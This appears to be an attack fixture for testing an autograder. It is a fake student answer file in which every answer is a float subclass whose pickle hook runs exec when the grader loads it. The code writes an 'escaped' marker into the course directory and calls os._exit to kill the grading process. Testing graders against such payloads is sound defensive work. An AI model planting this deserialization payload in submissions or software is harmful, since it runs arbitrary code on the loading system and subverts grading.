# attack: answers whose pickle runs a command where it is loaded.
# target: trimmed-test heaviest-test per-sort-test
# %% trimmed
class Payload(float):
    def __reduce_ex__(self, protocol):
        return exec, ("open('@COURSE@/escaped', 'w').write('x'); import os; os._exit(0)",)


def trimmed_mean(values, share):
    return Payload(0.0)


# %% heaviest
heaviest = Payload(1.0)
# %% per-sort
per_sort = pd.DataFrame({"mean": [Payload(0.0)] * 4, "largest": 0.0}, index=["Boskoop", "Cox", "Elstar", "Idared"], dtype=object)
